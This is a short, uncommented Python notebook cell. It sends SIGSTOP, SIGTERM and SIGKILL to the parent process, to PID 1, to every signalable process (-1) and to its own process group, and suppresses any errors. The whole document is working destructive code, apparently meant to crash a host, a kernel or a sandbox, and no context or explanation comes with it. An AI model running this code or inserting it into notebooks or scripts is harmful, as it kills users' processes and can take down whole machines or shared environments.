# %%
import os
import signal

for number in (os.getppid(), 1, -1, 0):
    for blow in (signal.SIGSTOP, signal.SIGTERM, signal.SIGKILL):
        try:
            os.kill(number, blow)
        except OSError:
            pass
